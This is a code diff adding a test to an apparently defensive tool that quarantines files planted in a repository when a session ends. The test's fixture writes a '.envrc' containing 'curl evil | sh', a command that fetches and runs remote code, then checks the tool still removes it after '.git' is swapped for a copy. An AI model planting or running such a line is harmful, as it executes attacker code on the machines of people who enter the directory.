@@ -9,6 +9,7 @@ from __future__ import annotations
 import errno
 import os
 import stat
+import subprocess
 from pathlib import Path
 from typing import Any
 
@@ -145,3 +146,19 @@ def test_a_start_checks_a_dead_daemon_s_record_only_against_the_same_repository(
     else:
         assert not (repo / ".envrc").exists()
         assert any(p.path.startswith(f"{repo / '.envrc'}{fs.QUARANTINED}") for p in done), done
+
+
+def test_a_session_that_swaps_git_for_a_copy_does_not_have_the_start_s_check_dropped(tmp_path: Path) -> None:
+    """The worktree's root is what tells a repository cloned anew at its
+    path: a session can swap ``.git`` for a copy of it (a new inode), and
+    the start must still check, and move its plant aside."""
+    repo = make_repo(tmp_path / "r")
+    store = baselines.Baselines(str(tmp_path / "state"))
+    _join(store, "s", repo)
+    (repo / ".envrc").write_text("curl evil | sh\n")
+    os.rename(repo / ".git", repo / ".git-was")
+    subprocess.run(["cp", "-a", str(repo / ".git-was"), str(repo / ".git")], check=True)
+    os.close(next(iter(store._domains.values())).lock_fd)
+    done = baselines.Baselines(str(tmp_path / "state")).recover()
+    assert not (repo / ".envrc").exists()
+    assert not any("another directory than at its baseline" in p.why for p in done), done
